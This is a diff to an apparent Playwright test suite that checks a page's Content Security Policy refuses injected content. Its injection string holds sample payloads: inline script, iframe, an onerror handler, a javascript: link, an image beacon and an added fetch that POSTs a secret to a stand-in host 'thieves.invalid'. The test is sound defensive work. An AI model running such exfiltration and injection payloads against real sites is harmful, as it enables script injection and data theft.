@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
-from playwright.sync_api import Browser
+from playwright.sync_api import Browser, expect
 
+from lab.command import wait_until
 from tests.browser import policy
+from tests.browser.test_page import SOMETHING
 
 INJECT = """() => {
   const script = document.createElement('script');
@@ -18,6 +20,7 @@ INJECT = """() => {
   document.body.append(frame);
   const picture = new Image();
   picture.src = 'https://pictures.invalid/?secret';
+  fetch('https://thieves.invalid/', { method: 'POST', body: 'secret' }).catch(() => undefined);
   const link = document.createElement('a');
   link.href = 'javascript:void(window.ran = "address")';
   document.body.append(link);
@@ -26,6 +29,14 @@ INJECT = """() => {
   drawing.innerHTML = '<img src="/none" onerror="window.ran = \\'handler\\'">';
   document.body.append(drawing);
 }"""
+REFUSED = (
+    "script-src-elem refused inline",
+    "scripts.invalid",
+    "frames.invalid",
+    "pictures.invalid",
+    "thieves.invalid",
+    "script-src-attr",
+)
 
 
 def test_an_injected_script_does_not_run(browser: Browser, public_url: str) -> None:
@@ -33,15 +44,14 @@ def test_an_injected_script_does_not_run(browser: Browser, public_url: str) -> N
     violations = policy.watch(context)
     page = context.new_page()
     page.goto(public_url, wait_until="domcontentloaded")
-    page.wait_for_function("document.querySelector('#root').innerText.trim().length > 5", timeout=60_000)
+    expect(page.locator("#root")).to_have_text(SOMETHING, timeout=60_000)
     assert violations == []
     page.evaluate(INJECT)
-    for word in ("script-src-elem refused inline", "scripts.invalid", "frames.invalid", "pictures.invalid", "script-src-attr"):
-        page.wait_for_function("() => true")
-        deadline = 50
-        while not any(word in told for told in violations) and deadline:
-            page.wait_for_timeout(100)
-            deadline -= 1
-        assert any(word in told for told in violations), f"{word} was not refused: {violations}"
+
+    def all_refused() -> bool:
+        page.wait_for_timeout(50)  # what the page tells arrives while Playwright is at work
+        return all(any(word in told for told in violations) for word in REFUSED)
+
+    wait_until(all_refused, 10, lambda: f"something of what was injected was not refused: {violations}")
     assert page.evaluate("window.ran") is None
     context.close()
